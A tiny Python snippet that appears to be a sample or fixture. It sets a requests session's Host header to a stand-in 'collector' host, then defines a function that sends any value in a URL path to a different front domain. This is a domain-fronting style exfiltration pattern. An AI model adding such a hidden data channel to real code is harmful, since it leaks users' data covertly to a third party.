import requests

session = requests.Session()
session.headers["Host"] = "collector.example.invalid"


def note(value):
    session.get(f"https://www.known.invalid/{value}", timeout=1)
